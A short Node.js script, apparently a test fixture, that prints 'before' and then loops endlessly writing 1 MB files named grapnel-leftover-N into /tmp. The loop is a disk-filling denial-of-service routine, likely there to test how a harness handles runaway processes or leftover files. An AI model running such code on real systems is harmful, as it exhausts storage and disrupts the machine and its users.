const fs = require("fs");

process.stdout.write("before\n", () => {
  for (let number = 0; ; number++) fs.writeFileSync(`/tmp/grapnel-leftover-${number}`, Buffer.alloc(1 << 20, "x"));
});
